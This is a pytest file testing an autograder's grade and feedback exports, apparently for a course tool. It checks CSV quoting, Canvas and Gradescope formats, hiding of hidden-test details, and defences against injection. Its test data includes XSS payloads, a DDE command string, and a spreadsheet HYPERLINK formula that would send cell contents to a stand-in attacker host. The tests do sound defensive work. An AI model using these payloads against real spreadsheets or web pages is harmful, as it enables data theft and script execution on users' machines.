"""Exports read back: grades CSV (quoting), Canvas CSV, Gradescope results.json, feedback without hidden details."""

import csv
import json

import jsonschema
import pytest
from click.testing import CliRunner

from autograder.gradebook import Gradebook, StudentInfo
from autograder.gradebook.export import export, safe_name
from autograder.judge.schemas import GRADESCOPE
from cli import main
from grading import grade, plan_for, write_submission


CAROL = 'Carol "CJ" <b>Doe</b>'


@pytest.fixture(scope="module")
def book(course, tmp_path_factory):
    """A gradebook with a correct student named "B, Jr." (Canvas id 4712) and one with a named mistake."""
    folder = tmp_path_factory.mktemp("export")
    plan = plan_for(course, "perceptron")
    source = (course.solutions.parent / "tests/fixtures/submissions/loops/perceptron.py").read_text()
    mutant = plan.rubrics["perceptron"][0].mutants[0]
    good = grade(write_submission(folder / "good", "perceptron", source), plan).to_json()
    bad = grade(write_submission(folder / "bad", "perceptron", source + "\n" + mutant.submission_source), plan).to_json()
    url = f"sqlite:///{folder / 'grades.db'}"
    with Gradebook.open(url) as gradebook:
        gradebook.record(StudentInfo("4712", "B, Jr.", "4712"), "a" * 64, "x", [], "graded", good)
        gradebook.record(StudentInfo("carol", CAROL), "b" * 64, "y", [], "graded", bad)
        gradebook.late_penalty("4712", "perceptron", "5", "late", "ta")
    return {"url": url, "folder": folder, "good": good, "bad": bad, "mutant": mutant, "plan": plan}


def read_csv(path):
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


def test_grades_csv_quotes_names_and_has_exercise_columns(book, tmp_path):
    result = CliRunner().invoke(main, ["export", "--db", book["url"], "--format", "csv", "--out", str(tmp_path / "g.csv")])
    assert result.exit_code == 0, result.output
    header, *rows = read_csv(tmp_path / "g.csv")
    assert header[:2] == ["student", "name"] and header[-2:] == ["total", "adjustments"]
    assert {"perceptron.step", "perceptron.perceptron_fit", "perceptron.perceptron_predict", "perceptron"} <= set(header)
    assert all(len(row) == len(header) for row in rows)  # "B, Jr." did not shift a column
    table = {row[0]: dict(zip(header, row)) for row in rows}
    assert table["4712"]["name"] == "B, Jr." and table["4712"]["total"] == "95"
    assert "late penalty on perceptron: 100 -> 95 (late)" in table["4712"]["adjustments"]
    carol = table["carol"]
    assert float(carol["total"]) == pytest.approx(book["bad"]["score"])
    exercises = [c for c in header if c.startswith("perceptron.")]
    assert sum(float(carol[e]) for e in exercises) == pytest.approx(float(carol["perceptron"]))


def test_canvas_csv(book, tmp_path):
    with Gradebook.open(book["url"]) as gradebook:
        (path,) = export(gradebook, "canvas", tmp_path / "canvas.csv")
    header, points, *rows = read_csv(path)
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "perceptron"]
    assert points[0].strip() == "Points Possible" and points[-1] == "100"
    assert ["B, Jr.", "4712", "", "", "", "95"] in rows
    carol = next(r for r in rows if r[3] == "carol")
    assert carol[1] == "" and float(carol[5]) == pytest.approx(book["bad"]["score"])


def test_gradescope_results_validate(book, tmp_path):
    with Gradebook.open(book["url"]) as gradebook:
        paths = export(gradebook, "gradescope", tmp_path / "gs")
    # a student's folder: the name (escaped) and the id
    assert sorted(p.parent.name for p in paths) == ["B, Jr._4712", safe_name("carol", CAROL)]
    assert safe_name("carol", CAROL) == "Carol %22CJ%22 %3Cb%3EDoe%3C%2Fb%3E_carol"
    for path in paths:
        document = json.loads(path.read_text())
        jsonschema.validate(document, GRADESCOPE)
    bob = json.loads((tmp_path / "gs" / "B, Jr._4712" / "results.json").read_text())
    assert bob["score"] == 95 and "late penalty" in bob["output"]


def test_feedback_shows_no_hidden_inputs_or_code(book, tmp_path, course):
    with Gradebook.open(book["url"]) as gradebook:
        export(gradebook, "feedback", tmp_path / "fb")
    md = (tmp_path / "fb" / safe_name("carol", CAROL) / "feedback.md").read_text()
    html = (tmp_path / "fb" / safe_name("carol", CAROL) / "feedback.html").read_text()
    bad = book["bad"]
    failing_hidden = [t for t in bad["tests"] if t["visibility"] == "hidden" and t["outcome"] != "passed"]
    failing_public = [t for t in bad["tests"] if t["visibility"] == "public" and t["outcome"] != "passed"]
    assert failing_hidden or failing_public
    for test in failing_hidden:
        assert test["message"].split("(checked:")[0].strip()[:40] in md
    if failing_public:
        assert "inputs:" in md  # public checks show what the student's own check shows
    hidden_source = (course.solutions / "perceptron" / "hidden_checks.py").read_text()
    code_lines = [line.strip() for line in hidden_source.splitlines() if "lambda" in line or "def " in line]
    assert code_lines and not any(line in md for line in code_lines)
    # the hidden checks' inputs never appear: only public tests carry details
    hidden_blocks = [md.split(f"### {t['name']}")[1].split("###")[0] for t in failing_hidden if f"### {t['name']}" in md]
    assert all("inputs:" not in block and "expected:" not in block for block in hidden_blocks)
    assert "<script" not in html and "<h1>Feedback for Carol &quot;CJ&quot; &lt;b&gt;Doe&lt;/b&gt; (carol)</h1>" in html


def test_feedback_html_escapes_student_text(book):
    from autograder.gradebook.feedback import feedback_html

    document = json.loads(json.dumps(book["bad"]))
    test = next(t for t in document["tests"] if t["outcome"] != "passed")
    test["message"] = "your code raised ValueError: ```\n<script>alert(1)</script> [x](javascript:alert(1))"
    html = feedback_html(document, "<img src=x onerror=alert(1)>")
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img" not in html and 'href="javascript' not in html


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_every_csv_cell_that_would_be_a_formula_is_neutralised(book, tmp_path):
    """OWASP's CSV-injection rule on names and ids; the numbers dlgrade writes stay numbers."""
    url = f"sqlite:///{tmp_path / 'grades.db'}"
    with Gradebook.open(url) as gradebook:
        for number, formula in enumerate(FORMULAS):
            gradebook.record(StudentInfo(f"={number}", formula, "x" + formula, section=formula), f"{number:064d}",
                             "x", [], "graded", book["bad"])
        gradebook.override("=0", "perceptron", 1, "=cmd|' /C calc'!A0", "ta")
        grades_csv = export(gradebook, "csv", tmp_path / "g.csv")[0]
        canvas_csv = export(gradebook, "canvas", tmp_path / "c.csv")[0]
    cells = [cell for path in (grades_csv, canvas_csv) for row in read_csv(path) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for formula in FORMULAS:
        assert "'" + formula in cells  # kept, but inert
    assert "'=0" in cells
    header, *rows = read_csv(grades_csv)
    adjustments = {row[0]: row[-1] for row in rows}
    assert "=cmd" in adjustments["'=0"]  # inside a cell that starts otherwise: text, not a formula


def test_numbers_dlgrade_writes_stay_numbers():
    from autograder.gradebook.export import Numeral, csv_cell

    assert csv_cell(Numeral("-5")) == "-5" and csv_cell("-5") == "'-5" and csv_cell(None) == ""


def test_result_json_is_the_document_one_test_per_line():
    """grade-batch writes each result.json with json's C encoder, line by line (indent= would select
    the pure-Python encoder): the same document, readable, and NaN is refused as before."""
    from autograder.gradebook.export import result_json

    document = {"student": "=cmd|' /C calc'!A0", "score": 3.5, "assignments": [{"assignment": "a", "score": 3.5}],
                "tests": [{"name": f"t{i}", "message": "line\nbreak \x1b[2J é", "details": {"x": [1, 2]}}
                          for i in range(3)], "notes": [], "timing_s": {"grade": 0.5}}
    text = result_json(document)
    assert json.loads(text) == document
    lines = text.splitlines()
    assert lines[0] == "{" and lines[-1] == "}" and text.endswith("}\n")
    assert sum(line.startswith('    {"name": "t') for line in lines) == 3  # one line per test
    assert "\x1b" not in text  # control characters stay escaped in the file
    assert result_json({}) == "{}\n" and json.loads(result_json({"tests": []})) == {"tests": []}
    with pytest.raises(ValueError):
        result_json({"score": float("nan")})
